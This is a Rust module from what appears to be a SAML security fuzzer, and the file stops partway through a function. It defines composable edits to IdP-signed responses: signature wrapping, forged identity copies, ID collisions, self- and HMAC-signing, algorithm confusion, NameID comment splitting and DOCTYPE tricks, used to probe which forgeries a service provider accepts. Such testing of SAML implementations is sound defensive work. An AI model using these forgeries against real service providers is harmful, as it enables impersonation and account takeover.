//! The fuzzer's edit primitives: small changes to an IdP-signed response, as data, so a chain
//! of them replays on any fresh login, shrinks one edit at a time and is written to a
//! reproducer. Unlike the catalogue's recipes, no primitive names an attack: wrapping, moving,
//! copying the signed element, re-parenting, prefix games and DOCTYPE pieces compose, and
//! the SP's answer says what worked.

mod nearest;

use serde::{Deserialize, Serialize};

pub use nearest::nearest_check;

use crate::bytes::{
    self, after_name, after_start_tag, before_end_tag, insert, try_splice, Doc, Node,
};
use crate::forge::Skip;
use crate::identity::{self, Swap};
use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};

/// An element a primitive works on, found afresh in each document it edits.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Target {
    /// The root element.
    Response,
    /// The first `saml:Assertion` in document order.
    Assertion,
    /// The last `saml:Assertion` in document order.
    LastAssertion,
    /// The first Assertion's own `ds:Signature`.
    AssertionSignature,
    /// The root's own `ds:Signature`.
    ResponseSignature,
    /// The first Assertion's `Subject`.
    Subject,
    /// The first `NameID` in document order.
    NameId,
    /// The first `Issuer` in document order.
    Issuer,
    /// The first Assertion's `Conditions`.
    Conditions,
    /// The first `AttributeStatement`.
    AttributeStatement,
    /// The first `ds:SignedInfo`.
    SignedInfo,
    /// The first `ds:DigestValue`.
    DigestValue,
    /// The first `ds:KeyInfo`.
    KeyInfo,
    /// The Response's `samlp:Status`.
    Status,
}

/// Where an inserted or moved element goes, relative to its anchor.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Place {
    /// Just before the anchor (a sibling).
    Before,
    /// Just after the anchor (a sibling).
    After,
    /// The anchor's new first child.
    FirstChild,
    /// The anchor's new last child.
    LastChild,
    /// Around the anchor: a copy takes the anchor's place and holds it as its last child
    /// (the original nested inside its copy). Copies only.
    Around,
}

/// What happens to a copy's `ID` attribute.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum IdChange {
    /// The same ID as the original (an ID collision).
    Keep,
    /// A new ID.
    Fresh,
    /// The original's ID in another letter case.
    CaseVariant,
    /// No plain ID; the original's ID as `x:ID` in a namespace of its own (attribute
    /// pollution: consumers that find "the element with that ID" by local name).
    Namespaced,
    /// No ID at all.
    Remove,
}

/// An element a primitive wraps another one in.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Wrapper {
    /// `samlp:Extensions`.
    Extensions,
    /// `saml:Advice`.
    Advice,
    /// `ds:Object`.
    Object,
    /// An element of a namespace nobody knows.
    Unknown,
    /// An empty `ds:Signature` (verifiers that drop every Signature before digesting).
    Signature,
}

/// What a copy looks like from outside.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Outer {
    /// The element as it is.
    #[default]
    Same,
    /// Inside a wrapper element (one edit for the classic wrapping shapes).
    Wrapped(Wrapper),
    /// Its own element name moved to a namespace nobody knows (consumers that find
    /// elements by local name take it for the real one).
    ForeignNamespace,
    /// Carrying, as its last child and in place of any Signature of its own, a copy of the
    /// document's first `ds:Signature` whose first Reference names the copy's ID (digests and
    /// value untouched: verifiers that check "a Signature names this element", then verify
    /// another one, take it for signed).
    Signed,
}

/// What splits an identity value in two.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Splitter {
    /// `<!---->`
    Comment,
    /// `<?x?>`
    ProcessingInstruction,
    /// The rest as a CDATA section.
    Cdata,
    /// A character reference for the character at the split (`&#64;` for `@`).
    CharacterReference,
    /// An entity reference whose replacement text, declared in a new internal DTD, is the
    /// rest (readers that skip entity references see only the head).
    Entity,
}

/// An attribute added to an element's start tag.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ExtraAttribute {
    /// A second `ID` holding the signed ID (not well-formed: a duplicate attribute).
    DuplicateId,
    /// `x:ID` in a namespace of its own, holding the signed ID.
    NamespacedId,
    /// `xml:id` holding the signed ID.
    XmlId,
    /// `id` (lower case) holding the signed ID.
    LowercaseId,
    /// `xml:xmlns`, which namespace-aware parsers treat in different ways.
    XmlXmlns,
}

/// A DOCTYPE put before the root.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum DoctypeKind {
    /// `<!DOCTYPE samlp:Response>`.
    Empty,
    /// An internal subset declaring `ID` attributes as type ID.
    AttlistId,
    /// An internal subset declaring an entity that is not used.
    UnusedEntity,
}

/// A signature algorithm a `SignatureMethod` is switched to (the value stays the RSA one).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Algorithm {
    /// `dsa-sha1`: verifiers given the IdP's RSA key error out, and some read the error as
    /// success.
    DsaSha1,
    /// `ecdsa-sha256`, likewise.
    EcdsaSha256,
    /// `rsa-sha1`, a weaker digest under the same key.
    RsaSha1,
}

impl Algorithm {
    fn uri(self) -> &'static str {
        match self {
            Algorithm::DsaSha1 => "http://www.w3.org/2000/09/xmldsig#dsa-sha1",
            Algorithm::EcdsaSha256 => "http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256",
            Algorithm::RsaSha1 => "http://www.w3.org/2000/09/xmldsig#rsa-sha1",
        }
    }
}

/// Where a recomputed digest goes.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum DigestPlacement {
    /// In place of the first DigestValue's text (the SignatureValue no longer matches).
    Replace,
    /// As a comment before the first DigestValue's text, which canonicalization drops.
    CommentFirst,
    /// In a second `ds:Reference` inside a `samlp:StatusDetail`, earlier in the document.
    StatusDetail,
}

/// A change to the document's bytes outside its elements.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum ByteEdit {
    /// A UTF-8 byte order mark first.
    Bom,
    /// Whitespace before the root (and before the XML declaration, which makes it misplaced).
    LeadingWhitespace,
    /// A comment after the root.
    TrailingComment,
    /// Text after the root (not well-formed).
    TrailingText,
}

/// One primitive edit.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case", tag = "edit")]
pub enum Mutation {
    /// Rewrite every identity value inside `within` to the target identity's.
    ForgeIdentity {
        /// Where.
        within: Target,
    },
    /// Insert a copy of `what` at `place` relative to `anchor`; a `forged` copy carries the
    /// target identity and none of its own enveloped Signature.
    Copy {
        /// The element copied.
        what: Target,
        /// Whether the copy's identity values are the target's.
        forged: bool,
        /// What happens to the copy's ID.
        id: IdChange,
        /// Where the copy goes.
        place: Place,
        /// Relative to which element.
        anchor: Target,
        /// How the copy looks from outside.
        #[serde(default, skip_serializing_if = "is_same")]
        outer: Outer,
    },
    /// Move `what` to `place` relative to `anchor`.
    Move {
        /// The element moved.
        what: Target,
        /// Where it goes.
        place: Place,
        /// Relative to which element.
        anchor: Target,
    },
    /// Wrap `what` in a `wrapper` element.
    Wrap {
        /// The element wrapped.
        what: Target,
        /// The wrapper.
        wrapper: Wrapper,
    },
    /// Remove `what`.
    Remove {
        /// The element removed.
        what: Target,
    },
    /// Re-sign every Signature with the attacker's own key, its certificate in KeyInfo.
    SelfSign,
    /// "Sign" the first Signature with HMAC-SHA256 keyed with the certificate in the
    /// document's KeyInfo (public, so anyone can), its digest recomputed and KeyInfo dropped.
    HmacSign,
    /// Declare the first Signature as made with `to` over the document as it now is: its
    /// digest recomputed, its SignatureValue kept (no key is needed to claim an algorithm).
    Algorithm {
        /// The algorithm named.
        to: Algorithm,
    },
    /// Recompute the digest of what the first Reference points at, as the document now is,
    /// and put it `into` a place some verifiers read it from.
    Redigest {
        /// Where.
        into: DigestPlacement,
    },
    /// Split the first NameID's value with `with`; what comes before the split is the
    /// identity a parser that reads one text node sees.
    SplitIdentity {
        /// What splits it.
        with: Splitter,
    },
    /// Add an attribute to `on`.
    Attribute {
        /// The element.
        on: Target,
        /// The attribute.
        attribute: ExtraAttribute,
    },
    /// Write `on`'s own name with another prefix bound to its namespace, declared on it
    /// (`saml2:`, `saml2p:` as Okta and Shibboleth write them; the meaning is unchanged, and
    /// readers that match prefixes see a different document).
    Reprefix {
        /// The element.
        on: Target,
    },
    /// Put a DOCTYPE before the root.
    Doctype {
        /// Which one.
        kind: DoctypeKind,
    },
    /// Change the bytes around the root.
    Bytes {
        /// How.
        kind: ByteEdit,
    },
}

/// How the IdP signs the seed a chain starts from (Entra's "Signing Option").
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum SeedSigning {
    /// "Sign SAML assertion", Entra's default.
    Assertion,
    /// "Sign SAML response".
    Response,
    /// "Sign SAML response and assertion".
    Both,
}

/// A fuzz case: the seed's signing and the edits, applied in order.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Chain {
    /// How the seed is signed.
    pub seed: SeedSigning,
    /// The edits.
    pub edits: Vec<Mutation>,
}

/// A chain applied to one seed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Applied {
    /// The edited document.
    pub xml: String,
    /// What the edits did to identity.
    pub swap: Swap,
    /// For each edit, whether it changed anything (an edit whose element is missing, or
    /// that needs a well-formed document after an earlier edit broke it, does nothing).
    pub took_effect: Vec<bool>,
    /// Whether the result is one the specs say must be refused whoever it names: not
    /// well-formed (namespaces included), or carrying a DTD. Accepting it is `nonstrict`.
    pub spec_invalid: bool,
}

impl Chain {
    /// Applies the edits to `seed` in order.
    pub fn apply(&self, seed: &str) -> Applied {
        let (xml, swap, took_effect) = self.edit(seed);
        Applied {
            // Judged against the seed: a seed roxmltree already refuses says nothing about edits.
            spec_invalid: spec_invalid(&xml) && !spec_invalid(seed),
            xml,
            swap,
            took_effect,
        }
    }

    fn edit(&self, seed: &str) -> (String, Swap, Vec<bool>) {
        let mut xml = seed.to_owned();
        let mut swap = Swap::default();
        let mut took_effect = Vec::with_capacity(self.edits.len());
        for m in &self.edits {
            match m.apply(&xml) {
                Ok((next, s)) if next != xml => {
                    xml = next;
                    merge(&mut swap, s);
                    took_effect.push(true);
                }
                _ => took_effect.push(false),
            }
        }
        (xml, swap, took_effect)
    }

    /// The edits, one line each, for people.
    pub fn describe(&self) -> String {
        let edits: Vec<String> = self.edits.iter().map(|m| m.to_string()).collect();
        format!("seed signed: {:?}; {}", self.seed, edits.join("; "))
    }
}

fn is_same(outer: &Outer) -> bool {
    *outer == Outer::Same
}

fn merge(into: &mut Swap, from: Swap) {
    for g in from.genuine {
        if !into.genuine.contains(&g) {
            into.genuine.push(g);
        }
    }
    for f in from.forged {
        if !into.forged.contains(&f) {
            into.forged.push(f);
        }
    }
    for u in from.untouched {
        if !into.untouched.contains(&u) {
            into.untouched.push(u);
        }
    }
}

impl std::fmt::Display for Mutation {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Mutation::ForgeIdentity { within } => write!(f, "forge the identity in {within:?}"),
            Mutation::Copy {
                what,
                forged,
                id,
                place,
                anchor,
                outer,
            } => write!(
                f,
                "copy {what:?}{} (ID {id:?}{}) {place:?} {anchor:?}",
                if *forged { " forged" } else { "" },
                match outer {
                    Outer::Same => String::new(),
                    Outer::Wrapped(w) => format!(", wrapped in {w:?}"),
                    Outer::ForeignNamespace => ", foreign namespace".to_owned(),
                    Outer::Signed => ", with a Signature naming it".to_owned(),
                }
            ),
            Mutation::Move {
                what,
                place,
                anchor,
            } => write!(f, "move {what:?} {place:?} {anchor:?}"),
            Mutation::Wrap { what, wrapper } => write!(f, "wrap {what:?} in {wrapper:?}"),
            Mutation::Remove { what } => write!(f, "remove {what:?}"),
            Mutation::SelfSign => f.write_str("re-sign with the attacker's key"),
            Mutation::HmacSign => f.write_str("HMAC-sign keyed with the IdP certificate"),
            Mutation::Algorithm { to } => {
                write!(f, "claim {to:?} (digest recomputed, SignatureValue kept)")
            }
            Mutation::Redigest { into } => write!(f, "recompute the digest into {into:?}"),
            Mutation::SplitIdentity { with } => write!(f, "split the NameID with a {with:?}"),
            Mutation::Attribute { on, attribute } => write!(f, "add {attribute:?} to {on:?}"),
            Mutation::Reprefix { on } => write!(f, "write {on:?} with another prefix"),
            Mutation::Doctype { kind } => write!(f, "DOCTYPE {kind:?}"),
            Mutation::Bytes { kind } => write!(f, "bytes: {kind:?}"),
        }
    }
}

type Outcome = Result<(String, Swap), Skip>;

fn missing(what: Target) -> Skip {
    Skip::NotApplicable(format!("no {what:?} in the document"))
}

/// Whether `xml` is not namespace-well-formed XML 1.0 (one UTF-8 byte order mark allowed), or
/// carries a DTD, which SAML's XML Signature profile forbids: roxmltree is a strict,
/// non-validating parser that loads nothing.
pub fn spec_invalid(xml: &str) -> bool {
    // roxmltree skips one byte order mark itself, and refuses any DTD by default.
    roxmltree::Document::parse(xml).is_err()
}

impl Mutation {
    /// This edit on `xml`: the new document and what it did to identity.
    pub fn apply(&self, xml: &str) -> Outcome {
        match *self {
            Mutation::Bytes { kind } => return Ok((bytes_edit(xml, kind), Swap::default())),
            Mutation::SelfSign => return self_sign(xml),
            Mutation::HmacSign => return hmac_sign(xml),
            Mutation::Redigest { into } => return redigest(xml, into),
            Mutation::Algorithm { to } => return switch_algorithm(xml, to),
            _ => {}
        }
        let doc = Doc::parse(xml)?;
        let find = |t: Target| resolve(&doc, t).ok_or_else(|| missing(t));
        match *self {
            Mutation::ForgeIdentity { within } => {
                let node = find(within)?;
                let (edits, swap) =
                    identity::rewrite_edits(&doc, node.range(), &identity::forger(&doc));
                Ok((try_splice(xml, edits)?, swap))
            }
            Mutation::Copy {
                what,
                forged,
                id,
                place,
                anchor,
                outer,
            } => {
                let (node, at) = (find(what)?, find(anchor)?);
                let signed = outer == Outer::Signed;
                let (copy, swap) = copy_of_signed(&doc, node, forged, forged || signed, id)?;
                if place == Place::Around && matches!(outer, Outer::Wrapped(_)) {
                    return Err(Skip::NotApplicable(
                        "a wrapped copy cannot go around its original".into(),
                    ));
                }
                let mut copy = dress(&doc, node, copy, outer)?;
                if place == Place::Around {
                    copy = append_child(&copy, doc.outer(at))?;
                }
                if signed {
                    copy = append_child(&copy, &signature_naming(&doc, node, id)?)?;
                }
                let edit = match place {
                    Place::Around => (at.range(), copy),
                    _ => insert(position(&doc, at, place), copy),
                };
                Ok((try_splice(xml, vec![edit])?, swap))
            }
            Mutation::Move {
                what,
                place,
                anchor,
            } => {
                let (node, at) = (find(what)?, find(anchor)?);
                if place == Place::Around {
                    return Err(Skip::NotApplicable(
                        "only a copy goes around an element".into(),
                    ));
                }
                if at.ancestors().any(|a| a == node) || node == doc.root() {
                    return Err(Skip::NotApplicable(
                        "cannot move an element into itself, or the root".into(),
                    ));
                }
                let to = position(&doc, at, place);
                let edits = vec![(node.range(), String::new()), insert(to, doc.outer(node))];
                Ok((try_splice(xml, edits)?, Swap::default()))
            }
            Mutation::Wrap { what, wrapper } => {
                let node = find(what)?;
                let (open, close) = wrapper_tags(wrapper);
                let wrapped = format!("{open}{}{close}", doc.outer(node));
                Ok((
                    try_splice(xml, vec![(node.range(), wrapped)])?,
                    Swap::default(),
                ))
            }
            Mutation::Remove { what } => {
                let node = find(what)?;
                if node == doc.root() {
                    return Err(Skip::NotApplicable("the root stays".into()));
                }
                Ok((
                    try_splice(xml, vec![(node.range(), String::new())])?,
                    Swap::default(),
                ))
            }
            Mutation::SplitIdentity { with } => split_identity(&doc, with),
            Mutation::Reprefix { on } => reprefix(&doc, find(on)?),
            Mutation::Attribute { on, attribute } => {
                let node = find(on)?;
                let own = node.attribute("ID").unwrap_or("id0");
                // The ID the first Reference signs: the value worth claiming elsewhere.
                let signed = doc
                    .tree
                    .descendants()
                    .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
                    .and_then(|r| r.attribute("URI"))
                    .and_then(|u| u.strip_prefix('#'))
                    .unwrap_or(own);
                let signed = bytes::escape(signed);
                let text = match attribute {
                    ExtraAttribute::DuplicateId => format!(" ID=\"{signed}\""),
                    ExtraAttribute::NamespacedId => {
                        format!(" xmlns:fz=\"urn:fuzz\" fz:ID=\"{signed}\"")
                    }
                    ExtraAttribute::XmlId => format!(" xml:id=\"{signed}\""),
                    ExtraAttribute::LowercaseId => format!(" id=\"{signed}\""),
                    ExtraAttribute::XmlXmlns => format!(" xml:xmlns=\"{ASSERTION_NS}\""),
                };
                Ok((
                    try_splice(xml, vec![insert(after_name(xml, node), text)])?,
                    Swap::default(),
                ))
            }
            Mutation::Doctype { kind } => {
                let root = doc.root();
                let name = bytes::qualified_name(xml, root);
                let subset = match kind {
                    DoctypeKind::Empty => String::new(),
                    DoctypeKind::AttlistId => {
                        " [<!ATTLIST saml:Assertion ID ID #IMPLIED><!ATTLIST Assertion ID ID #IMPLIED>]"
                            .to_owned()
                    }
                    DoctypeKind::UnusedEntity => " [<!ENTITY fz \"fuzz\">]".to_owned(),
                };
                let at = root.range().start;
                Ok((
                    try_splice(xml, vec![insert(at, format!("<!DOCTYPE {name}{subset}>"))])?,
                    Swap::default(),
                ))
            }
            Mutation::Bytes { .. }
            | Mutation::SelfSign
            | Mutation::HmacSign
            | Mutation::Algorithm { .. }
            | Mutation::Redigest { .. } => unreachable_edit(),
        }
    }
}

/// The edits handled before parsing never reach the parsed path.
fn unreachable_edit() -> Outcome {
    Err(Skip::Failed("handled before parsing".into()))
}

/// The element `target` names in `doc`.
pub fn resolve<'d, 'a>(doc: &'d Doc<'a>, target: Target) -> Option<Node<'d, 'a>> {
    let first = |ns: &str, name: &str| doc.tree.descendants().find(|n| n.has_tag_name((ns, name)));
    let assertion = || first(ASSERTION_NS, "Assertion");
    let in_assertion = |name: &str| {
        assertion()?
            .descendants()
            .find(|n| n.has_tag_name((ASSERTION_NS, name)))
    };
    match target {
        Target::Response => Some(doc.root()),
        Target::Assertion => assertion(),
        Target::LastAssertion => doc
            .tree
            .descendants()
            .rfind(|n| n.has_tag_name((ASSERTION_NS, "Assertion"))),
        Target::AssertionSignature => bytes::signature_of(assertion()?),
        Target::ResponseSignature => bytes::signature_of(doc.root()),
        Target::Subject => in_assertion("Subject"),
        Target::NameId => first(ASSERTION_NS, "NameID"),
        Target::Issuer => first(ASSERTION_NS, "Issuer"),
        Target::Conditions => in_assertion("Conditions"),
        Target::AttributeStatement => first(ASSERTION_NS, "AttributeStatement"),
        Target::SignedInfo => first(DSIG_NS, "SignedInfo"),
        Target::DigestValue => first(DSIG_NS, "DigestValue"),
        Target::KeyInfo => first(DSIG_NS, "KeyInfo"),
        Target::Status => first(PROTOCOL_NS, "Status"),
    }
}

/// The byte offset `place` names relative to `anchor`.
fn position(doc: &Doc, anchor: Node, place: Place) -> usize {
    match place {
        Place::Before => anchor.range().start,
        Place::After => anchor.range().end,
        Place::FirstChild => after_start_tag(doc.src, anchor),
        Place::LastChild => before_end_tag(doc.src, anchor),
        // Callers handle it; as a position it is the anchor's start.
        Place::Around => anchor.range().start,
    }
}

/// A copy of `node`: forged (target identity, its own enveloped signature gone) or verbatim,
/// its ID changed as `id` says.
pub(crate) fn copy_of(
    doc: &Doc,
    node: Node,
    forged: bool,
    id: IdChange,
) -> Result<(String, Swap), Skip> {
    copy_of_signed(doc, node, forged, forged, id)
}

/// [`copy_of`], its own enveloped signature dropped whenever `unsigned` (forged or not).
fn copy_of_signed(
    doc: &Doc,
    node: Node,
    forged: bool,
    unsigned: bool,
    id: IdChange,
) -> Result<(String, Swap), Skip> {
    let range = node.range();
    let (mut edits, swap) = if forged {
        identity::rewrite_edits(doc, range.clone(), &identity::forger(doc))
    } else {
        (Vec::new(), Swap::default())
    };
    if forged && swap.forged.is_empty() {
        return Err(Skip::NotApplicable(format!(
            "no identity value in {} to forge",
            node.tag_name().name()
        )));
    }
    if unsigned {
        if let Some(sig) = bytes::signature_of(node) {
            // Whatever an earlier edit put inside the Signature goes with it.
            let cut = sig.range();
            edits.retain(|(r, _)| !(cut.start <= r.start && r.end <= cut.end));
            edits.push((cut, String::new()));
        }
    }
    if let Some(value) = bytes::attr_value(node, "ID") {
        let own = &doc.src[value.clone()];
        match id {
            IdChange::Keep => {}
            IdChange::Fresh | IdChange::CaseVariant => {
                edits.extend(changed_id(own, id).map(|changed| (value, changed)))
            }
            IdChange::Remove | IdChange::Namespaced => {
                let attr = node
                    .attributes()
                    .find(|a| a.name() == "ID" && a.namespace().is_none())
                    .map(|a| a.range());
                let replacement = match id {
                    IdChange::Namespaced => {
                        format!("xmlns:fz=\"urn:fuzz\" fz:ID=\"{own}\"")
                    }
                    _ => String::new(),
                };
                if let Some(attr) = attr {
                    edits.push((attr, replacement));
                }
            }
        }
    }
    if let Some(declarations) = inherited_namespaces(doc, node) {
        edits.push(insert(after_name(doc.src, node), declarations));
    }
    if bytes::overlapping(&edits) {
        return Err(Skip::NotApplicable(
            "the edits overlap in this document".into(),
        ));
    }
    Ok((crate::family::cut(doc.src, range, edits), swap))
}

/// Declarations of the namespaces `node` inherits, for its start tag, so a copy means the
/// same wherever it goes (inside a `ds:Signature` with its own default namespace, say).
fn inherited_namespaces(doc: &Doc, node: Node) -> Option<String> {
    let start_tag = &doc.src[node.range().start..after_start_tag(doc.src, node)];
    let declarations: String = node
        .namespaces()
        .filter(|ns| ns.name() != Some("xml"))
        .filter_map(|ns| {
            let attr = match ns.name() {
                Some(prefix) => format!("xmlns:{prefix}"),
                None => "xmlns".to_owned(),
            };
            let declared_here = declares(start_tag, &attr);
            (!declared_here).then(|| format!(" {attr}=\"{}\"", bytes::escape(ns.uri())))
        })
        .collect();
    (!declarations.is_empty()).then_some(declarations)
}

/// Whether `start_tag` holds the attribute `name` (any whitespace around its `=`).
fn declares(start_tag: &str, name: &str) -> bool {
    start_tag.match_indices(name).any(|(at, _)| {
        let before = start_tag[..at].chars().next_back();
        let after = start_tag[at + name.len()..].trim_start();
        before.is_some_and(char::is_whitespace) && after.starts_with('=')
    })
}

/// `copy` (the outer markup of `node`) as `outer` says: wrapped, or its element name moved
/// to an unknown namespace (a prefix of its own, bound on the copy).
fn dress(doc: &Doc, node: Node, copy: String, outer: Outer) -> Result<String, Skip> {
    match outer {
        // A Signed copy's Signature is added after any original it goes around.
        Outer::Same | Outer::Signed => Ok(copy),
        Outer::Wrapped(w) => {
            let (open, close) = wrapper_tags(w);
            Ok(format!("{open}{copy}{close}"))
        }
        Outer::ForeignNamespace => {
            let name = bytes::qualified_name(doc.src, node);
            let local = node.tag_name().name();
            let open = format!("<{name}");
            let close = format!("</{name}>");
            let body = copy
                .strip_prefix(&open)
                .and_then(|rest| rest.strip_suffix(&close).map(|r| (r, true)))
                .or_else(|| {
                    copy.strip_prefix(&open)
                        .and_then(|rest| rest.strip_suffix("/>").map(|r| (r, false)))
                });
            // A prefix of its own: `fz` may be declared on the copy already (a namespaced ID).
            match body {
                Some((rest, true)) => Ok(format!(
                    "<fzn:{local} xmlns:fzn=\"urn:fuzz:foreign\"{rest}</fzn:{local}>"
                )),
                Some((rest, false)) => Ok(format!(
                    "<fzn:{local} xmlns:fzn=\"urn:fuzz:foreign\"{rest}/>"
                )),
                None => Err(Skip::NotApplicable(
                    "the copy's tags cannot be renamed".into(),
                )),
            }
        }
    }
}

/// The plain ID a copy of an element whose ID is `own` carries after `change`, if it keeps one.
fn changed_id(own: &str, change: IdChange) -> Option<String> {
    match change {
        IdChange::Keep => Some(own.to_owned()),
        IdChange::Fresh => Some(format!("{own}-fz")),
        IdChange::CaseVariant => Some(swap_case(own)),
        IdChange::Namespaced | IdChange::Remove => None,
    }
}

/// `element` (an element's outer markup) with `child` as its new last child.
fn append_child(element: &str, child: &str) -> Result<String, Skip> {
    let end = element
        .rfind("</")
        .filter(|_| element.ends_with('>') && !element.ends_with("/>"))
        .ok_or_else(|| Skip::NotApplicable("the copy cannot hold an element".into()))?;
    Ok(format!("{}{child}{}", &element[..end], &element[end..]))
}

/// A copy of the document's first `ds:Signature` whose first Reference names the ID a copy of
/// `node` carries after `id` (see [`Outer::Signed`]); its namespaces declared on it.
fn signature_naming(doc: &Doc, node: Node, id: IdChange) -> Result<String, Skip> {
    let named = bytes::attr_value(node, "ID")
        .and_then(|own| changed_id(&doc.src[own], id))
        .ok_or_else(|| Skip::NotApplicable("the copy has no plain ID to name".into()))?;
    let signature = doc
        .tree
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "Signature")))
        .ok_or_else(|| Skip::NotApplicable("no ds:Signature in the document to copy".into()))?;
    let uri = signature
        .descendants()
        .find(|n| n.has_tag_name((DSIG_NS, "Reference")))
        .and_then(|r| bytes::attr_value(r, "URI"))
        .ok_or_else(|| Skip::NotApplicable("the Signature has no Reference URI".into()))?;
    let mut edits = vec![(uri, format!("#{named}"))];
    if let Some(declarations) = inherited_namespaces(doc, signature) {
        edits.push(insert(after_name(doc.src, signature), declarations));
    }
    Ok(crate::family::cut(doc.src, signature.range(), edits))
}

/// `node`'s own name written with another prefix for its namespace, bound on its start tag;
/// its attributes and content unchanged.
fn reprefix(doc: &Doc, node: Node) -> Outcome {
    let ns = node
        .tag_name()
        .namespace()
        .ok_or_else(|| Skip::NotApplicable("the element is in no namespace".into()))?;
    let name = bytes::qualified_name(doc.src, node);
    let current = name.split_once(':').map(|(prefix, _)| prefix);
    // The prefixes other IdPs write: Okta and Shibboleth IdP use saml2:/saml2p:.
    let candidates: &[&str] = match ns {
        ASSERTION_NS => &["saml2", "saml"],
        PROTOCOL_NS => &["saml2p", "samlp"],
        DSIG_NS => &["dsig", "ds"],
        _ => &["fzp"],
    };
    // Not one the element's content uses (in names or QName values): it would be rebound;
    // nor one its start tag declares already (a second declaration is not well-formed).
    let outer = doc.outer(node);
    let start_tag = &doc.src[node.range().start..after_start_tag(doc.src, node)];
    let prefix = candidates
        .iter()
        .find(|p| {
            Some(**p) != current
                && !outer.contains(&format!("{p}:"))
                && !declares(start_tag, &format!("xmlns:{p}"))
        })
        .ok_or_else(|| Skip::NotApplicable("every other prefix is in use inside it".into()))?;
    let local = node.tag_name().name();
    let start = node.range().start + 1;
    let mut edits = vec![(
        start..start + name.len(),
        format!(
            "{prefix}:{local} {}",
            bytes::declaration(&format!("{prefix}:"), &bytes::escape(ns))
        ),
    )];
    if !outer.ends_with("/>") {
        edits.push((
            before_end_tag(doc.src, node)..node.range().end,
            format!("</{prefix}:{local}>"),
        ));
    }
    Ok((try_splice(doc.src, edits)?, Swap::default()))
}

fn swap_case(s: &str) -> String {
    s.chars()
        .map(|c| {
            if c.is_ascii_lowercase() {
                c.to_ascii_uppercase()
            } else {
                c.to_ascii_lowercase()
            }
        })
        .collect()
}

fn wrapper_tags(wrapper: Wrapper) -> (String, String) {
    match wrapper {
        Wrapper::Extensions => (
            format!("<samlp:Extensions xmlns:samlp=\"{PROTOCOL_NS}\">"),
            "</samlp:Extensions>".into(),
        ),
        Wrapper::Advice => (
            format!("<saml:Advice xmlns:saml=\"{ASSERTION_NS}\">"),
            "</saml:Advice>".into(),
        ),
        Wrapper::Object => (
            format!("<ds:Object xmlns:ds=\"{DSIG_NS}\">"),
            "</ds:Object>".into(),
        ),
        Wrapper::Unknown => (
            "<fz:Wrapper xmlns:fz=\"urn:fuzz\">".into(),
            "</fz:Wrapper>".into(),
        ),
        Wrapper::Signature => (
            format!("<ds:Signature xmlns:ds=\"{DSIG_NS}\">"),
            "</ds:Signature>".into(),
        ),
    }
}

/// Splits the first NameID's text: the part before the split (before `@`, or the first half)
/// is what a parser that reads only the first text node sees.
fn split_identity(doc: &Doc, with: Splitter) -> Outcome {
    let name_id = resolve(doc, Target::NameId).ok_or_else(|| missing(Target::NameId))?;
    let text = name_id
        .first_child()
        .filter(|c| c.is_text())
        .ok_or_else(|| Skip::NotApplicable("the NameID has no text to split".into()))?;
    let value = &doc.src[text.range()];
    if value.contains('&') || value.chars().count() < 2 {
        return Err(Skip::NotApplicable("the NameID cannot be split".into()));
    }
    // The head must be an identity nobody was given: not empty, not one the response carries
    // (the display name is often exactly the NameID's local part). Split before the `@`, else
    // halfway, else after the first character.
    let existing = identity::values(doc);
    let fresh = |head: &str| {
        !head.trim().is_empty()
            && !existing
                .iter()
                .any(|v| v.trim().eq_ignore_ascii_case(head.trim()))
    };
    let half = value
        .char_indices()
        .nth(value.chars().count() / 2)
        .map(|(i, _)| i);
    let first = value.char_indices().nth(1).map(|(i, _)| i);
    let at = [value.find('@'), half, first]
        .into_iter()
        .flatten()
        .find(|at| *at > 0 && fresh(&value[..*at]))
        .ok_or_else(|| {
            Skip::NotApplicable("every split of the NameID names an identity it carries".into())
        })?;
    let (head, tail) = value.split_at(at);
    let mut edits = Vec::new();
    let split = match with {
        Splitter::Comment => format!("{head}<!---->{tail}"),
        Splitter::ProcessingInstruction => format!("{head}<?fz?>{tail}"),
        Splitter::Cdata => format!("{head}<![CDATA[{tail}]]>"),
        Splitter::CharacterReference => {
            let mut chars = tail.chars();
            let first = chars.next().unwrap_or('.');
            format!("{head}&#{};{}", first as u32, chars.as_str())
        }
        Splitter::Entity => {
            if doc.src.contains("<!DOCTYPE") {
                return Err(Skip::NotApplicable(
                    "the document has a DOCTYPE already".into(),
                ));
            }
            let root = doc.root();
            let name = bytes::qualified_name(doc.src, root);
            // The tail is text already escaped for content; in an entity value `%` and `"` matter.
